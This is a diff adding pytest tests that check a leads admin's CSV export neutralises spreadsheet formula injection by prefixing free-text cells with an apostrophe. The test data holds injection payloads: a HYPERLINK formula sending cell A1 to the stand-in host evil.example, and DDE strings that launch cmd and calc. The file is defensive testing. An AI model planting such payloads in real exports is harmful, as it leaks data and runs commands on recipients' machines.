@@ -1,7 +1,9 @@
 """The leads' admin over HTTP (issue 13 §4): the list's columns, the page's labelled tables, the
 CSV export's exact bytes, the resend action, who may use them, masking, and the query count."""
 
+import csv
 import html
+import io
 import uuid
 from datetime import UTC, datetime
 from typing import Any
@@ -252,6 +254,76 @@ def test_an_exporter_without_the_personal_data_permission_exports_masked() -> No
 
     row = response.content.decode("utf-8-sig").splitlines()[1]
     assert row.split(";")[3:6] == ["A*** L***", "***@***", "**************"]
+
+
+# (the registration's field, the column of the export) of what the customer writes freely.
+FREE_TEXT = {"nome": 3, "email": 4, "empresa": 6, "cidade": 7}
+
+
+def exported_rows(*leads: Lead) -> list[list[str]]:
+    response = post_action(client_of("Support"), "export_csv", *leads)
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1:]
+
+
+@pytest.mark.parametrize("field", sorted(FREE_TEXT))
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?d="&A1;"Clique")',
+            '\'=HYPERLINK("http://evil.example/?d="&A1;"Clique")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3@example.com", "'-2+3@example.com"),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+    ],
+    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
+)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    field: str, value: str, exported: str
+) -> None:
+    lead = make_lead(data={**DATA, "cadastro": {**DATA["cadastro"], field: value}})
+
+    [row] = exported_rows(lead)
+
+    assert row[FREE_TEXT[field]] == exported
+    untouched = {"nome": "Ana Lima", "email": "ana@example.com", "empresa": "Água Limpa Ltda"}
+    untouched["cidade"] = "Campinas"
+    assert {name: row[FREE_TEXT[name]] for name in untouched if name != field} == {
+        name: text for name, text in untouched.items() if name != field
+    }
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["Ana=Lima", " =1+1", "'=1+1", "Maria-Clara", "ana+crm@example.com", "\n=1+1"],
+    ids=[
+        "equals-inside",
+        "space-first",
+        "quoted-already",
+        "minus-inside",
+        "plus-inside",
+        "newline",
+    ],
+)
+def test_a_formula_character_anywhere_but_first_is_exported_as_it_is(value: str) -> None:
+    lead = make_lead(data={**DATA, "cadastro": {**DATA["cadastro"], "empresa": value}})
+
+    [row] = exported_rows(lead)
+
+    assert row[6] == value
+
+
+def test_the_formula_rule_reaches_the_exact_bytes_of_a_quoted_cell() -> None:
+    """A carriage return makes the writer quote the cell: the ``'`` goes inside the quotes."""
+    lead = make_lead(data={**DATA, "cadastro": {**DATA["cadastro"], "cidade": "\r=1+1"}})
+
+    response = post_action(client_of("Support"), "export_csv", lead)
+
+    assert ';"\'\r=1+1";SP;' in response.content.decode("utf-8-sig")
 
 
 def test_support_resends_failed_leads_to_the_crm(
